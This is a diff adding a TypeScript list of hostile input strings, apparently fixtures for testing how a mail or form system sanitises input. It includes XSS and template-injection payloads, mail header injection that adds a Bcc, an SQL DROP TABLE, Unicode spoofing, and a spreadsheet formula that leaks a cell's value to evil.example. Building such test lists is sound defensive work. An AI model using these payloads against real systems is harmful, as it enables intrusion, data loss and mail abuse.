@@ -1,0 +1,28 @@
+/**
+ * What somebody types who tries to break in. Each would be a header, an address or a part of a mail of its own, a file, markup, script,
+ * a link, a formula, a question to the database or a name inside a template, or would make what stands beside it read otherwise.
+ */
+export const HOSTILE_TEXTS = [
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(1)>',
+  'javascript:alert(1)',
+  '</pre><iframe src=//evil.example>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '\u202Eevil\u202C.exe',
+  '.\r\nQUIT\r\n',
+  '--\r\n\r\n--_NmP-Part_1--',
+  'x@y.example\r\nBcc: victim@example.com',
+  'x@y.example, victim@example.com',
+  '"a b"<victim@example.com>',
+  'x@y.example\u0000',
+  '=?utf-8?Q?a=0D=0ABcc:_victim=40example.com?=',
+  '<!DOCTYPE html><script>alert(1)</script>',
+  'victim@example.com>\nSubject: hi',
+  `\${alert(1)} <%= alert(1) %> #{alert(1)}`,
+  "'; DROP TABLE submissions; --",
+  '=HYPERLINK("//evil.example/?"&A1,"Click")',
+  '[click](javascript:alert(1)) **bold** <!-- -->',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;',
+  '\u200B\u2066\u200FJohn\u2060 \uFEFFSmith',
+  'Donaudampfschifffahrtsgesellschaftskapitänswitwenrentenauszahlungsstellenvorstehers',
+]
